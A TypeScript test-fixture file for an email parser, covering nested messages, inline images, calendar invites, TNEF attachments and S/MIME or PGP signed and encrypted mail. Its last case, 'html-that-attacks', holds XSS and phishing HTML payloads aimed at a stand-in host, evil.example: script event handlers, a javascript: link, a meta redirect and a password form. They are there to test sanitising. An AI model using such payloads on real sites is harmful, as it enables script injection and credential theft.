import { base64, type HardMail, hard, PERSON, raw, WANG } from './build.ts'
import { encryptedWhole, signedWhole, winmail } from './winmail.ts'

const x = { subject: 'x', from: WANG }
const MIXED = `${PERSON}Subject: x\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain; charset=utf-8\n\n內文\n--b\n`
const END = '\n--b--\n'
const CODED = 'Content-Transfer-Encoding: base64\n\n'
const SIGNED = ['signature smime.p7s']

/** Letters and pictures inside; what is signed and what is encrypted. */
export const partMails: HardMail[] = [
  hard(
    'letter-inside',
    [
      MIXED,
      'Content-Type: message/rfc822\n\nSubject: 舊信\nFrom: a@b.example\nContent-Type: multipart/mixed; boundary=q\n\n--q\n\n舊內文\n--q--',
      END,
    ],
    { ...x, text: '內文', parts: ['letter 舊信.eml'] },
  ),
  hard('only-a-letter', [`${PERSON}Subject: x\nContent-Type: message/rfc822\n\nSubject: 舊信\n\n舊內文`], {
    ...x,
    text: '舊內文',
    parts: ['letter 舊信.eml'],
  }),
  hard(
    'digest',
    [
      `${PERSON}Subject: x\nContent-Type: multipart/digest; boundary=b\n\n--b\n\nSubject: 一\n\n甲\n--b\n\nSubject: 二\n\n乙`,
      END,
    ],
    { ...x, text: '甲', parts: ['letter 一.eml', 'letter 二.eml'] },
  ),
  hard(
    'picture-in-the-words',
    [
      `${PERSON}Subject: x\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html; charset=utf-8\n\n<p>看圖 <img src="cid:p1@x"><img src="https://track.example/1.gif"></p>\n--b\nContent-Type: image/png; name=p.png\nContent-ID: <p1@x>\n${CODED}AAAA`,
      END,
    ],
    { ...x, text: '看圖', parts: ['file p.png (inline)'] },
  ),
  hard(
    'picture-shown-though-attached',
    [
      `${PERSON}Subject: x\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html; charset=utf-8\n\n<p>看圖 <img src="cid:a&amp;b@x"></p>\n--b\nContent-Type: image/png; name=shown.png\nContent-Disposition: attachment\nContent-ID: <a&b@x>\n${CODED}AAAA\n--b\nContent-Type: image/png; name=other.png\nContent-ID: <other@x>\n${CODED}AAAA`,
      END,
    ],
    { ...x, text: '看圖', parts: ['file shown.png (inline)', 'file other.png'] },
  ),
  hard(
    'picture-written-into-html',
    [
      `${PERSON}Subject: x\nContent-Type: text/html; charset=utf-8\n\n<p>看圖</p><img src="data:image/png;base64,iVBORw0KGgo=">`,
    ],
    { ...x, text: '看圖', parts: ['file 圖片-1.png (inline)'] },
  ),
  hard(
    'invitation',
    [
      `${PERSON}Subject: x\nContent-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain; charset=utf-8\n\n開會\n--b\nContent-Type: text/calendar; method=REQUEST; name=invite.ics\n\nBEGIN:VCALENDAR\nEND:VCALENDAR`,
      END,
    ],
    { ...x, text: '開會', parts: ['calendar invite.ics'] },
  ),
  hard(
    'only-an-invitation',
    [
      `${PERSON}Content-Type: text/calendar; charset=utf-8; method=REQUEST\n\nBEGIN:VCALENDAR\nBEGIN:VTIMEZONE\nDTSTART:16010101T000000\nEND:VTIMEZONE\nBEGIN:VEVENT\nSUMMARY;LANGUAGE=zh-TW:系統說明會\nDTSTART;TZID=Asia/Taipei:20261120T093000\nLOCATION:第一會議室\nDESCRIPTION:請攜帶\\n憑證\n 卡\nEND:VEVENT\nEND:VCALENDAR\n`,
    ],
    {
      subject: '系統說明會',
      from: WANG,
      text: '系統說明會\n2026-11-20 09:30\n第一會議室\n請攜帶\n憑證卡',
      parts: ['calendar 附件-1.ics'],
    },
  ),
  hard(
    'winmail-with-words',
    [
      MIXED.replace('內文', ''),
      'Content-Type: application/ms-tnef; name=winmail.dat\n',
      CODED,
      base64(
        winmail({ text: '您好，附件請查收', files: [{ name: '請假單.pdf', bytes: Buffer.from('%PDF-') }] }),
      ),
      END,
    ],
    { ...x, text: '您好，附件請查收', parts: ['file 請假單.pdf'], repairs: ['tnef-unpacked'] },
  ),
  hard(
    'winmail-with-rtf',
    [
      `${PERSON}Subject: x\nContent-Type: application/octet-stream; name=WINMAIL.DAT\n`,
      CODED,
      base64(
        winmail({
          rtf: "{\\rtf1\\ansi\\ansicpg950{\\fonttbl{\\f0 Arial;}}\\uc1 \\u24744?\\u22909?\\par \\'bd\\'d0 end}",
          files: [],
        }),
      ),
    ],
    { ...x, text: '您好\n請 end', repairs: ['tnef-unpacked'] },
  ),
  hard(
    'winmail-broken',
    [
      MIXED,
      'Content-Type: application/ms-tnef; name=winmail.dat\n',
      CODED,
      base64(winmail({ text: '舊', files: [{ name: 'a.pdf', bytes: Buffer.alloc(100) }] }).subarray(0, 90)),
      END,
    ],
    { ...x, text: '內文', repairs: ['tnef-unpacked'] },
  ),
  hard(
    'winmail-that-is-none',
    [MIXED, 'Content-Type: application/ms-tnef; name=winmail.dat\n', CODED, 'AAAA', END],
    { ...x, text: '內文', parts: ['file winmail.dat'] },
  ),
  hard(
    'signed-beside',
    [
      `${PERSON}Subject: x\nContent-Type: multipart/signed; boundary=b; protocol="application/pkcs7-signature"\n\n--b\nContent-Type: text/plain; charset=utf-8\n\n內文\n--b\nContent-Type: application/pkcs7-signature; name=smime.p7s\n${CODED}AAAA`,
      END,
    ],
    { ...x, text: '內文', parts: SIGNED, protection: 'signed' },
  ),
  hard(
    'signed-as-a-whole',
    [
      `${PERSON}Subject: x\nContent-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\n${CODED}`,
      base64(signedWhole('Content-Type: text/plain; charset=utf-8\r\n\r\n內文在簽章裡')),
    ],
    { ...x, text: '內文在簽章裡', parts: ['signature smime.p7m'], protection: 'signed' },
  ),
  hard(
    'encrypted-smime',
    [
      `${PERSON}Subject: x\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n${CODED}`,
      base64(encryptedWhole()),
    ],
    { ...x, text: '', parts: ['encrypted smime.p7m'], protection: 'encrypted' },
  ),
  hard(
    'encrypted-pgp',
    [
      `${PERSON}Subject: x\nContent-Type: multipart/encrypted; boundary=b; protocol="application/pgp-encrypted"\n\n--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--b\nContent-Type: application/octet-stream; name=encrypted.asc\n\n-----BEGIN PGP MESSAGE-----\n\nabc\n-----END PGP MESSAGE-----`,
      END,
    ],
    { ...x, text: '', parts: ['encrypted encrypted.asc'], protection: 'encrypted' },
  ),
  hard(
    'signed-in-the-words',
    [
      `${PERSON}Subject: x\nContent-Type: text/plain; charset=utf-8\n\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\n內文\n- -- 王\n-----BEGIN PGP SIGNATURE-----\n\nabc\n-----END PGP SIGNATURE-----\n`,
    ],
    { ...x, text: '內文\n-- 王', parts: ['signature signed-message.asc'], protection: 'signed' },
  ),
  hard('file-in-the-words', [`${PERSON}Subject: x\n\nsee below\n\nbegin 644 a.txt\n#0V%T\n\`\nend\nbye\n`], {
    ...x,
    text: 'see below',
    parts: ['file a.txt'],
  }),
  hard('only-a-file', [`${PERSON}Subject: x\nContent-Type: application/pdf; name=fax.pdf\n${CODED}AAAA`], {
    ...x,
    text: '',
    parts: ['file fax.pdf'],
  }),
  raw('nothing', [''], { subject: '', from: '', text: '' }),
  hard(
    'html-that-attacks',
    [
      `${PERSON}Subject: x\nContent-Type: text/html; charset=utf-8\n\n<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=https://evil.example/a.css><p style="position:fixed;top:0;background:url(https://evil.example/b)" onclick=alert(1)>安全</p><a href="jAvascript:alert(1)">點</a><form action=https://evil.example><input type=password></form><svg onload=alert(1)><iframe srcdoc="<script>alert(1)</script>"></iframe><img srcset="https://evil.example/c 2x" src=x onerror=alert(1)>`,
    ],
    { ...x, text: '安全\n\n點' },
  ),
]
